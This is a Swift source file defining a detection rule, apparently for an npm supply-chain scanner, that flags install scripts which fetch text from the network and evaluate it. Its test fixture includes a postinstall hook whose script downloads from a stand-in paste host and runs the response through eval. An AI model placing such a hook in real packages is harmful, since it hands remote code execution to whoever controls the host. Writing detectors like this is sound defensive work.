// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// A file that runs at install fetches something and runs text as code, close together.
package struct InstallEvaluatesDownload: Rule {
    package init() {}

    package let card = RuleCard(
        id: "install-evaluates-download", kind: .content, title: "Install fetches text and runs it as code", severity: .critical,
        confidence: .medium, status: .stable, revision: 2, group: "behaviour",
        rationale: "eslint-scope 3.7.2 fetched a paste at install and evaluated it. No installer needs to: a file can be shipped.",
        knownFalseAlarms: ["A bundled file in which an HTTP client and a template engine lie side by side."],
        references: ["https://eslint.org/blog/2018/07/postmortem-for-malicious-package-publishes/"],
        fires: [
            RuleSample(
                "fetch, then eval",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node ./lib/build.js"}}"#,
                    "lib/build.js":
                        "var https = require('https'); https.get({host:'paste.example',path:'/raw/x'}, r => r.on('data', c => { eval(c); }));",
                ]))
        ],
        staysSilent: [
            RuleSample(
                "fetches a file",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node get.js"}}"#,
                    "get.js": "require('https').get('https://a.example/x.tgz', r => r.pipe(require('fs').createWriteStream('x.tgz')));",
                ])),
            RuleSample(
                "not at install",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0"}"#,
                    "index.js": "require('https').get(u, r => r.on('data', c => eval(c)));",
                ])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        var out: [Finding] = []
        for scan in facts.commandScans where scan.allSigns.contains(.runsText) && !scan.allSigns.isDisjoint(with: .network) {
            out.append(finding(1, facts.installEvidence([.runsText])))
        }
        for (position, step) in facts.installTime.sorted(by: { $0.key < $1.key }) {
            let file = facts.files[position]
            guard let scan = file.scan, let network = Sign.reachingNetwork.first(where: { scan.chain([.runsText, $0]) }) else { continue }
            // In a large bundle neighbours need not belong together.
            let size = file.file.bytes.count
            // The further a file is from the command, the likelier it is merely loaded with others.
            let strength = size > 200_000 || step.depth > 3 ? 0 : size > 20_000 ? 0.7 : 1
            out.append(finding(strength, [file.evidence(of: .runsText), file.evidence(of: network)].compactMap { $0 }))
        }
        return out.max { $0.bits < $1.bits }.map { [$0] } ?? []
    }

    private func finding(_ strength: Double, _ evidence: [Evidence]) -> Finding {
        card.finding(
            "Install fetches something from the network and runs text as code", strength: strength, evidence: evidence,
            meaning: "Whoever controls that address runs code on every machine that installs the package.")
    }
}
